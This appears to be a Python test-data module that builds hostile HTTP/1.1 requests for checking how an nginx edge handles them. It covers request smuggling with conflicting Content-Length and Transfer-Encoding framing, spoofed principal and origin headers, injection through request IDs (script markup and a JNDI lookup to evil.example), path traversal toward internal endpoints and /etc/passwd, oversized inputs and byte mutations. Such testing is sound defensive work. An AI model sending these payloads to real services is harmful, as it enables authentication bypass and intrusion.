"""Requests that attack: each a named row, with what the edge may answer and whether the service may see it at all.

A row's own requests carry its marker as request id; a request that is hidden in another one names the path SMUGGLED.
"""

from __future__ import annotations

import random
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

from edge_wire import Way

SEED = 20261125
TARGET = "/api/v1/users/me"
SMUGGLED = "/api/v1/smuggled"
STRANGER = "00000000-0000-4000-8000-00000000dead"
DOCUMENT = "00000000-0000-4000-8000-000000000001"
FOREIGN_ADDRESS = "203.0.113.66"
ACCEPTED = frozenset({200})
REFUSED = frozenset({400})
# nginx closes the connection and has no answer for it.
HUNG_UP = frozenset({0})
BODY = b"0\r\n\r\n"
INNER = f"GET {SMUGGLED} HTTP/1.1\r\nHost: localhost\r\nX-Principal-Id: {STRANGER}\r\n\r\n".encode()


@dataclass(frozen=True)
class Row:
    """Bytes for HTTP/1.1. MARK and TOKEN in them are replaced by the row's marker and a good token."""

    name: str
    data: bytes
    statuses: frozenset[int]
    # Whether the service may see the row's own request; never one inside of it.
    reaches: bool = False
    way: Way = Way.SOCKET
    method: str = "GET"

    @property
    def marker(self) -> str:
        return f"hostile-{zlib.crc32(self.name.encode()):08x}"


def request(*lines: str | bytes, start: str | bytes = f"GET {TARGET} HTTP/1.1", host: str | None = "Host: localhost") -> bytes:
    """A request of a signed-in user, with these lines of headers as they are."""
    given = [start, *([host] if host is not None else []), "Authorization: TOKEN", "X-Request-ID: MARK", *lines, "", ""]
    return b"\r\n".join(line if isinstance(line, bytes) else line.encode("latin-1") for line in given)


def post(*lines: str | bytes, body: bytes = b"") -> bytes:
    return request(*lines, start="POST /api/v1/documents HTTP/1.1") + body


CLOSE = "Connection: close"
CODINGS = {
    "xchunked": 501,
    "chunked, identity": 501,
    "identity, chunked": 501,
    "gzip, chunked": 501,
    "chunked, chunked": 501,
    "chunked;q=1": 501,
    '"chunked"': 501,
    "chunked\x0b": 501,
    "\x0bchunked": 501,
    "chunked,": 501,
    ",chunked": 501,
    "chunked\x00": 400,
    "identity": 501,
    "trailers": 501,
    "": 501,
    "chunKed\xff": 501,
}
LENGTHS = [
    "+5",
    "-1",
    "-0",
    "5, 5",
    "5 5",
    "0x5",
    "5.0",
    "1e1",
    "5;",
    "5\x00",
    "\xb2",
    "",
    "9" * 30,
    "\uff15",
    "5\x0b",
    "1_0",
    "NaN",
]
CHUNKS = {
    "a sign": b"+5\r\nhello\r\n",
    "minus": b"-5\r\nhello\r\n",
    "0x": b"0x5\r\nhello\r\n",
    "an underscore": b"0_5\r\nhello\r\n",
    "a space before": b" 5\r\nhello\r\n",
    "no size": b"\r\nhello\r\n",
    "no number": b"g\r\nhello\r\n",
    "more than 64 bits": b"FFFFFFFFFFFFFFFFF\r\nhello\r\n",
    "all of 64 bits": b"FFFFFFFFFFFFFFFF\r\nhello\r\n",
    "half of 64 bits": b"8000000000000000\r\nhello\r\n",
    "less data than it says": b"3\r\nhello\r\n",
    "a NUL": b"5\x00\r\nhello\r\n",
    "a bare CR": b"5\rhello\r\n",
}


def framings() -> Iterator[Row]:
    """Where one request ends and the next begins, told in two ways."""
    both = ["Content-Length: {}", "Transfer-Encoding: chunked"]
    for name, lines in {"CL.TE": both, "TE.CL": both[::-1]}.items():
        for length in (4, len(BODY + INNER)):
            yield Row(f"{name} {length}", post(*(line.format(length) for line in lines), body=BODY + INNER), REFUSED)
    for coding, status in CODINGS.items():
        line = f"Transfer-Encoding: {coding}"
        yield Row(f"coding {coding!r}", post(line, body=BODY + INNER), frozenset({status, 400}))
        yield Row(f"coding {coding!r} and length", post(line, "Content-Length: 5", body=BODY + INNER), frozenset({status, 400}))
    for name, lines in {
        "twice": ["Transfer-Encoding: chunked"] * 2,
        "and another": ["Transfer-Encoding: chunked", "Transfer-Encoding: identity"],
        "after another": ["Transfer-Encoding: identity", "Transfer-Encoding: chunked"],
        "space before its colon": ["Content-Length: 4", "Transfer-Encoding : chunked"],
        "tab before its colon": ["Content-Length: 4", "Transfer-Encoding\t: chunked"],
        "folded": ["Content-Length: 4", "Transfer-Encoding:\r\n chunked"],
        "behind a fold": ["Content-Length: 4", "X-Folded: a\r\n Transfer-Encoding: chunked"],
        "behind a bare CR": ["Content-Length: 4", "X-Bare: a\rTransfer-Encoding: chunked"],
        "behind a bare LF": ["Content-Length: 4", "X-Bare: a\nTransfer-Encoding: chunked"],
        "with a NUL in its name": ["Content-Length: 4", "Transfer-\x00Encoding: chunked"],
    }.items():
        yield Row(f"chunked {name}", post(*lines, body=BODY + INNER), frozenset({400, 501}))
    old = post("Transfer-Encoding: chunked", body=BODY + INNER).replace(b"HTTP/1.1", b"HTTP/1.0", 1)
    yield Row("chunked in HTTP/1.0", old, REFUSED)
    for text in LENGTHS:
        yield Row(f"length {text!r}", post(b"Content-Length: " + text.encode(), body=b"hello" + INNER), REFUSED)
    for name, lines in {
        "two lengths": ["Content-Length: 5", "Content-Length: 6"],
        "one length twice": ["Content-Length: 5", "Content-Length: 5"],
        "length with a space before its colon": ["Content-Length : 5"],
        "length folded": ["Content-Length:\r\n 5"],
        "length behind a bare CR": ["X-Bare: a\rContent-Length: 5"],
    }.items():
        yield Row(name, post(*lines, body=b"hello" + INNER), REFUSED)
    for name, chunk in CHUNKS.items():
        yield Row(f"chunk with {name}", post("Transfer-Encoding: chunked", body=chunk + BODY + INNER), REFUSED)
    # What follows a whole request is a request of its own, and nobody vouches for it.
    told = b"X-Principal-Id: " + STRANGER.encode()
    for name, lines, body in (
        ("chunk with an extension", ["Transfer-Encoding: chunked"], b'5;a="\r\nhello\r\n' + BODY),
        ("chunk with many extensions", ["Transfer-Encoding: chunked"], b"5" + b";a=b" * 500 + b"\r\nhello\r\n" + BODY),
        ("chunk with a bare LF", ["Transfer-Encoding: chunked"], b"5\nhello\r\n" + BODY),
        ("chunk with a space behind", ["Transfer-Encoding: chunked"], b"5 \r\nhello\r\n" + BODY),
        ("chunks of one byte", ["Transfer-Encoding: chunked"], b"1\r\nx\r\n" * 2000 + BODY),
        ("trailer with a principal", ["Transfer-Encoding: chunked"], b"5\r\nhello\r\n0\r\n" + told + b"\r\n\r\n"),
        ("trailer with a length", ["Transfer-Encoding: chunked"], b"5\r\nhello\r\n0\r\nContent-Length: 100\r\n\r\n"),
        ("chunked in capitals", ["Transfer-Encoding: CHUNKED"], b"5\r\nhello\r\n" + BODY),
        ("chunked with an underscore", ["Transfer_Encoding: chunked", "Content-Length: 5"], BODY),
        ("length with an underscore", ["Content_Length: 5", "Content-Length: 0"], b""),
        ("length with zeros before", ["Content-Length: 0000000005"], b"hello"),
        ("length with blanks around", ["Content-Length:  \t 5 \t "], b"hello"),
    ):  # fmt: skip
        yield Row(name, post(*lines, body=body + INNER), frozenset({400, 422}), reaches=True)
    live = f"/api/v1/documents/{DOCUMENT}/live"
    for version in ("777", "13"):
        upgrade = ["Upgrade: websocket", "Connection: upgrade", f"Sec-WebSocket-Version: {version}", "Sec-WebSocket-Key: x"]
        yield Row(
            f"socket of version {version} that hides a request",
            request(*upgrade, start=f"GET {live} HTTP/1.1") + INNER,
            frozenset({400, 403, 404, 426}),
            reaches=True,
        )
    for name, upgrade in {
        "h2c": ["Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAAP__", "Connection: Upgrade, HTTP2-Settings"],
        "websocket": ["Upgrade: websocket", "Connection: upgrade", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: x"],
        "TLS": ["Upgrade: TLS/1.0", "Connection: Upgrade"],
    }.items():
        yield Row(f"upgrade to {name}", request(*upgrade) + INNER, ACCEPTED, reaches=True)


IDENTITY = (
    *("X-Principal", "X-Principal-Name", "X-Principal-Email", "X-Principal-Roles", "X-Principal-Scopes", "X-User", "X-User-Id"),
    *("X-Remote-User", "Remote-User", "X-Authenticated-User", "X-Auth-Request-User", "X-Forwarded-User"),
)
SPELLINGS = {
    "as it is": "X-Principal-Id: {}",
    "in small letters": "x-principal-id: {}",
    "in capitals": "X-PRINCIPAL-ID: {}",
    "mixed": "x-PrInCiPaL-iD: {}",
    "twice": "X-Principal-Id: {}\r\nX-Principal-Id: {}",
    "in two cases": "x-principal-id: {}\r\nX-PRINCIPAL-ID: {}",
    "a list": "X-Principal-Id: {}, {}",
    "underscores": "X_Principal_Id: {}",
    "first underscore": "X_Principal-Id: {}",
    "last underscore": "X-Principal_Id: {}",
    "as a CGI variable": "HTTP_X_PRINCIPAL_ID: {}",
    "two dashes": "X--Principal-Id: {}",
    "dots": "X.Principal.Id: {}",
    "no dashes": "XPrincipalId: {}",
    "dash of another script": "X\xe2\x80\x90Principal\xe2\x80\x90Id: {}",
    "8-bit blank before": "\xa0X-Principal-Id: {}",
    "as hop by hop": "X-Principal-Id: {}\r\nConnection: X-Principal-Id",
    "no blank": "X-Principal-Id:{}",
    "tabs": "X-Principal-Id:\t\t{}\t",
    "after a bare LF": "X-Other: a\nX-Principal-Id: {}",
    "after a fold's look-alike": "X-Other: a\n\nX-Principal-Id: {}",
}
BROKEN_SPELLINGS = {
    "space before the colon": "X-Principal-Id : {}",
    "tab before the colon": "X-Principal-Id\t: {}",
    "folded": "X-Principal-Id:\r\n {}",
    "behind a fold": "X-Other: a\r\n X-Principal-Id: {}",
    "space before": " X-Principal-Id: {}",
    "NUL in the name": "X-Principal\x00-Id: {}",
    "NUL behind the name": "X-Principal-Id\x00: {}",
    "NUL in the value": "X-Principal-Id: {}\x00",
    "after a bare CR": "X-Other: a\rX-Principal-Id: {}",
}


def principals() -> Iterator[Row]:
    """Who somebody is, claimed by himself; with a token it is the token's, without one nobody gets in."""
    for name, line in SPELLINGS.items():
        claim = line.format(STRANGER, STRANGER)
        ends_headers = "\n\n" in claim
        yield Row(f"principal {name}", request(claim), ACCEPTED, reaches=True)
        alone = request(*([] if ends_headers else [CLOSE]), claim).replace(b"Authorization: TOKEN\r\n", b"")
        yield Row(f"principal {name} without token", alone, frozenset({401}))
    for name, line in BROKEN_SPELLINGS.items():
        yield Row(f"principal {name}", request(line.format(STRANGER)), frozenset({200, 400}), reaches=True)
        alone = request(line.format(STRANGER)).replace(b"Authorization: TOKEN\r\n", b"")
        yield Row(f"principal {name} without token", alone, frozenset({400, 401}))
    for header in IDENTITY:
        yield Row(f"identity by {header}", request(f"{header}: {STRANGER}"), ACCEPTED, reaches=True)
    for name, token in {
        "empty": "",
        "nothing but the scheme": "Bearer",
        "twice": "TOKEN\r\nAuthorization: TOKEN",
        "two of them": "TOKEN, TOKEN",
        "another scheme": "Basic YWRtaW46YWRtaW4=",
        "with a NUL": "TOKEN\x00",
        "cut": "Bearer eyJhbGciOiJub25lIn0.e30.",
    }.items():
        yield Row(f"token {name}", request(CLOSE).replace(b"TOKEN", token.encode(), 1), frozenset({400, 401}))


ORIGINS = (
    *("X-Forwarded-For", "X-Real-IP", "X-Client-IP", "X-Cluster-Client-IP", "True-Client-IP", "CF-Connecting-IP"),
    *("X-Forwarded-Host", "X-Forwarded-Server", "Client-IP", "X-Originating-IP", "Fastly-Client-IP"),
)


def origins() -> Iterator[Row]:
    """Where a request comes from and what it is, claimed by itself."""
    for header in ORIGINS:
        yield Row(f"origin by {header}", request(f"{header}: {FOREIGN_ADDRESS}"), ACCEPTED, reaches=True)
    for line in (
        f"X-Forwarded-For: {FOREIGN_ADDRESS}\r\nX-Forwarded-For: {FOREIGN_ADDRESS}",
        f"X-Forwarded-For: 127.0.0.1, {FOREIGN_ADDRESS}",
        f"X_Forwarded_For: {FOREIGN_ADDRESS}",
        f"Forwarded: for={FOREIGN_ADDRESS};host=evil.example;proto=http",
        f"Via: 1.1 {FOREIGN_ADDRESS}",
        "X-Forwarded-Proto: http",
        "X-Forwarded-Port: 1",
        "X-Forwarded-Prefix: /evil",
        "X-Original-URL: /metrics",
        "X-Rewrite-URL: /metrics",
        "X-Original-URI: /metrics",
        "X-HTTP-Method-Override: DELETE",
        "X-Accel-Redirect: /metrics",
        "X-Sendfile: /etc/passwd",
        "Proxy: http://evil.example",
        "Traceparent: 00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01",
        "Range: bytes=" + ",".join("0-" for _ in range(1000)),
        "Expect: 200-maybe",
        "Max-Forwards: 0",
        "Accept: " + "a/b," * 1000,
        "Cookie: " + "a=b; " * 1000,
    ):
        yield Row(f"claims {line[:40]}", request(line), ACCEPTED, reaches=True)


IDS = {
    "markup": '"><script>alert(1)</script>',
    "JSON": '","status":200,"x":"',
    "blank": "a b",
    "long": "a" * 129,
    "very long": "a" * 4000,
    "encoded line break": "%0d%0aSet-Cookie:%20a=b",
    "look-up": "${jndi:ldap://evil.example}",
    "variable": "$request_id",
    "path": "../../etc/passwd",
    "8 bits": "\xff\xfe",
    "control": "a\x01b",
    "escape": "a\x1b[2Jb",
    "tab": "a\tb",
    "semicolon": "a;b",
    "twice": "good-id\r\nX-Request-ID: other-id",
    "empty": "",
}
BROKEN_IDS = {"NUL": "a\x00b", "bare CR": "a\rX-Principal-Id: " + STRANGER, "folded": "a\r\n X-Principal-Id: " + STRANGER}


def request_ids() -> Iterator[Row]:
    """The one value of a client's that is repeated in headers, bodies and logs. These rows have no marker but their path."""
    for name, value in IDS.items():
        yield Row(f"id {name}", with_id(value, f"id {name}"), frozenset({404}), reaches=True)
    for name, value in BROKEN_IDS.items():
        yield Row(f"id {name}", with_id(value, f"id {name}"), frozenset({400, 404}), reaches=name == "folded")


def with_id(value: str, name: str) -> bytes:
    marker = Row(name, b"", ACCEPTED).marker
    return request(start=f"GET /api/v1/{marker} HTTP/1.1").replace(b"MARK", value.encode("latin-1"))


STARTS = {
    "nothing": "",
    "no address": "GET HTTP/1.1",
    "no version": None,
    "method in small letters": f"get {TARGET} HTTP/1.1",
    "method with a space": f"G ET {TARGET} HTTP/1.1",
    "method with a NUL": f"GET\x00 {TARGET} HTTP/1.1",
    "method of 5000 letters": f"{'A' * 5000} {TARGET} HTTP/1.1",
    "method of 20000 letters": f"{'A' * 20000} {TARGET} HTTP/1.1",
    "method with a colon": f"GET: {TARGET} HTTP/1.1",
    "tabs": f"GET\t{TARGET}\tHTTP/1.1",
    "text behind the version": f"GET {TARGET} HTTP/1.1 x",
    "two versions": f"GET {TARGET} HTTP/1.1 HTTP/1.1",
    "version 0.9": f"GET {TARGET} HTTP/0.9",
    "version 2.0": f"GET {TARGET} HTTP/2.0",
    "version 9.9": f"GET {TARGET} HTTP/9.9",
    "version without number": f"GET {TARGET} HTTP/",
    "half a version": f"GET {TARGET} HTTP/1.",
    "version in small letters": f"GET {TARGET} http/1.1",
    "version with letters": f"GET {TARGET} HTTP/1.1a",
    "version with a line's end": f"GET {TARGET} HTTP/1.1\rX",
    "a bare CR": f"GET {TARGET}\rX: HTTP/1.1",
    "asterisk": "GET * HTTP/1.1",
    "asterisk and OPTIONS": "OPTIONS * HTTP/1.1",
    "no slash": "GET api/v1/users/me HTTP/1.1",
    "an authority": "CONNECT localhost:443 HTTP/1.1",
    "another scheme": f"GET ftp://localhost{TARGET} HTTP/1.1",
    "a scheme and nothing": "GET http:// HTTP/1.1",
    "a user": f"GET https://admin:admin@localhost{TARGET} HTTP/1.1",
    "a broken address": f"GET https://[::1{TARGET} HTTP/1.1",
    "a NUL": f"GET {TARGET}\x00 HTTP/1.1",
    "a control character": f"GET {TARGET}\x01 HTTP/1.1",
    "DEL": f"GET {TARGET}\x7f HTTP/1.1",
    "another protocol": "SSH-2.0-OpenSSH_9.9",
    "the preface of HTTP/2": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "a handshake": "\x16\x03\x01\x00\xc8\x01\x00\x00\xc4\x03\x03",
    "a fragment": f"GET {TARGET}#x HTTP/1.1",
    "8 bits": "GET /api/v1/\xff\xfe HTTP/1.1",
    "a command of terminals": "GET /api/v1/\xc2\x9b31m\xe2\x80\xae HTTP/1.1",
    "another absolute address": f"GET https://localhost{TARGET} HTTP/1.1",
    "an absolute address of plain HTTP": f"GET http://localhost{TARGET} HTTP/1.1",
    "two slashes": f"GET /{TARGET} HTTP/1.1",
}
# What may reach the service is what it may see of a well-formed request for TARGET or something that is not there.
PASSED_ON = {
    "a fragment",
    "another scheme",
    "another absolute address",
    "an absolute address of plain HTTP",
    "two slashes",
    "DEL",
}


def starts() -> Iterator[Row]:
    for name, start in STARTS.items():
        if start is not None:
            statuses = {200, 404, 400} if name in PASSED_ON else {400, 405, 414, 505}
            yield Row(f"start with {name}", request(start=start), frozenset(statuses), reaches=name in PASSED_ON)
    # nginx takes the first part for the name.
    yield Row("start with a scheme and one slash", request(start=f"GET http:/{TARGET} HTTP/1.1"), frozenset({421}), way=Way.TLS)
    yield Row("start without a version", f"GET {TARGET}\r\n".encode(), HUNG_UP)
    yield Row("start without a version of a page", b"GET /\r\n", HUNG_UP)
    yield Row("blank lines before", b"\r\n\r\n\r\n" + request(), frozenset({200, 400}), reaches=True)
    yield Row("bare LF everywhere", request().replace(b"\r\n", b"\n"), frozenset({200, 400}), reaches=True)
    yield Row("bare CR everywhere", request().replace(b"\r\n", b"\r"), frozenset({0, 400}))
    yield Row("line ends the wrong way", request().replace(b"\r\n", b"\n\r"), REFUSED)


HOSTS = {
    "none": None,
    "two": "Host: localhost\r\nHost: localhost",
    "ours and another": "Host: localhost\r\nHost: other.example",
    "empty": "Host:",
    "a list": "Host: localhost, other.example",
    "a path": "Host: localhost/..",
    "a blank": "Host: local host",
    "a NUL": "Host: localhost\x00",
    "a user": "Host: admin@localhost",
    "half an address": "Host: [::1",
    "an address": "Host: 127.0.0.1",
    "a backslash": "Host: localhost\\x",
    "another": "Host: other.example",
    "a long one": f"Host: {'a' * 300}",
    "a longer one": f"Host: {'a.' * 4000}",
    "space before the colon": "Host : localhost",
    "folded": "Host:\r\n localhost",
    "8 bits": "Host: localhost\xff",
    "a command of terminals": "Host: localhost\xc2\x9b31m",
    "a percent sign": "Host: localhost%00",
    "an underscore": "Host: _",
    "markup": "Host: <script>",
}
OUR_HOSTS = {
    "capitals": "Host: LOCALHOST",
    "a final dot": "Host: localhost.",
    "any port": "Host: localhost:1",
    "no port": "Host: localhost:abc",
}


def hosts() -> Iterator[Row]:
    for name, line in HOSTS.items():
        yield Row(f"host: {name}", request(CLOSE, host=line), frozenset({400, 421, 431}), way=Way.TLS)
    for name, line in OUR_HOSTS.items():
        yield Row(f"host: {name}", request(host=line), ACCEPTED, reaches=True, way=Way.TLS)
    absolute = request(start=f"GET https://other.example{TARGET} HTTP/1.1")
    yield Row("host: ours with another absolute address", absolute, frozenset({421}), way=Way.TLS)


HIDDEN = ("metrics", "readyz", "internal/verify", "api/v1/health/ready")
UP = {
    "%2f": "..%2f..%2f",
    "%2F": "..%2F..%2F",
    "%2e": "%2e%2e/%2e%2e/",
    "one %2e": ".%2e/.%2e/",
    "%5c": "..%5c..%5c",
    "backslash": "..\\..\\",
    "plain": "../../",
    "parameter": "..;/..;/",
    "parameter with a name": "..;a=b/..;a=b/",
    "all of it": "%2e%2e%2f%2e%2e%2f",
    "NUL": "..%00/..%00/",
    "mixed slashes": "..%2f../",
    "one dot": "./.././../",
    "many slashes": "..///..///",
}
# Decoded once these are no dots and slashes, and nothing is decoded twice.
LITERALS = {
    "twice encoded": "%252e%252e%252f%252e%252e%252f",
    "overlong": "%c0%ae%c0%ae%c0%af",
    "long overlong": "%e0%80%ae%e0%80%ae%e0%80%af",
    "overlong backslash": "%c1%9c..%c1%9c",
    "full width": "%ef%bc%8e%ef%bc%8e%ef%bc%8f",
    "encoded line break": "x%0d%0aX-Principal-Id:%20y",
    "encoded blank": "%20..%20",
    "encoded tab": "%09",
    "encoded DEL": "%7f",
    "three dots": ".../.../",
    "question mark": "%3f",
    "fragment": "%23",
}
BAD_ESCAPES = ("%", "%2", "%zz", "%u002f", "%%32%66", "%-1", "%00", "%2g")


def paths() -> Iterator[Row]:
    """Ways out of the place that a path begins with."""
    for hidden in HIDDEN[:3]:
        for name, up in UP.items():
            yield Row(f"path {name} to {hidden}", request(start=f"GET /api/v1/{up}{hidden} HTTP/1.1"), frozenset({400, 404}))
    for name, text in LITERALS.items():
        start = f"GET /api/v1/{text}metrics HTTP/1.1"
        yield Row(f"path {name}", request(start=start), frozenset({400, 404}), reaches=True)
    for escape in BAD_ESCAPES:
        yield Row(f"path with {escape}", request(start=f"GET {TARGET}{escape} HTTP/1.1"), REFUSED)
    for path in ("/.", "/..", "/./", "/../", ";x=1", "/;", "/%2e", "/%2e%2e", "/.#", "/..#x", "%5c", "\\", "%2f"):
        yield Row(f"path ending in {path}", request(start=f"GET {TARGET}{path} HTTP/1.1"), REFUSED)
    for path in (
        "/metrics",
        "/readyz",
        "/internal/verify",
        "/api/v1/health/ready",
        "//metrics",
        "/./metrics",
        "/%6detrics",
        "/metrics?x",
    ):
        yield Row(f"hidden {path}", request(start=f"GET {path} HTTP/1.1"), frozenset({400, 404}))


def sizes() -> Iterator[Row]:
    """Too much of anything."""
    for name, line in {
        "header of 9000 bytes": "X-Long: " + "a" * 9000,
        "header of 1000000 bytes": "X-Long: " + "a" * 1_000_000,
        "name of 9000 bytes": "X" * 9000 + ": a",
        "name without an end": "X" * 40000,
        "headers of 40000 bytes": "\r\n".join(f"X-{number}: {'a' * 2000}" for number in range(20)),
        "101 headers": "\r\n".join(f"X-{number}: a" for number in range(101)),
        "5000 headers": "\r\n".join("X: a" for _ in range(5000)),
        "cookie of 9000 bytes": "Cookie: " + "a" * 9000,
        "token of 9000 bytes": "Authorization: Bearer " + "a" * 9000,
    }.items():
        yield Row(name, request(line), frozenset({400, 431}))
    for name, start in {
        "path of 9000 bytes": f"GET /api/v1/{'a' * 9000} HTTP/1.1",
        "path of 1000000 bytes": f"GET /api/v1/{'a' * 1_000_000} HTTP/1.1",
        "query of 9000 bytes": f"GET {TARGET}?{'a' * 9000} HTTP/1.1",
        "8500 slashes": f"GET {'/' * 8500} HTTP/1.1",
        "2000 segments": f"GET {'/aaaa' * 2000} HTTP/1.1",
    }.items():
        yield Row(name, request(start=start), frozenset({414}))
    yield Row(
        "path of 3000 slashes", request(start=f"GET {'/' * 3000}api/v1/users/me HTTP/1.1"), frozenset({200, 404}), reaches=True
    )
    yield Row("path of 7000 bytes", request(start=f"GET /api/v1/{'a' * 7000} HTTP/1.1"), frozenset({404}), reaches=True)
    for name, line in {
        "control character in a value": "X-Odd: a\x01b",
        "8 bits in a value": "X-Odd: \xff",
        "escape in a value": "X-Odd: \x1b[2J",
        "line without a colon": "nonsense",
        "brackets in a name": "X[a]: b",
        "8 bits in a name": "X-\xff: b",
        "blank in a name": "X a: b",
    }.items():
        yield Row(name, request(line), frozenset({200, 400}), reaches=True)
    for name, line in {
        "no name": ": b",
        "NUL in a value": "X-Odd: a\x00b",
        "bare CR in a value": "X-Odd: a\rb",
        "NUL in a name": "X\x00: b",
    }.items():
        yield Row(name, request(line), REFUSED)


def mutations(count: int = 60) -> Iterator[Row]:
    """A good request with some bytes changed, taken away or added; which ones is always the same."""
    chance = random.Random(SEED)
    for number in range(count):
        data = bytearray(request())
        for _ in range(chance.randint(1, 4)):
            place = chance.randrange(len(data))
            match chance.randrange(3):
                case 0:
                    data[place] = chance.randrange(256)
                case 1:
                    del data[place]
                case _:
                    data.insert(place, chance.choice(b"\r\n\t\x00 :/%;\\\"'"))
        # Whatever it has become, it ends.
        yield Row(
            f"mutation {number}", bytes(data) + b"\r\n\r\n", frozenset({0, 200, 400, 401, 404, 405, 421, 501, 505}), reaches=True
        )


def rows() -> list[Row]:
    made = [framings(), principals(), origins(), request_ids(), starts(), hosts(), paths(), sizes(), mutations()]
    return [row for family in made for row in family]
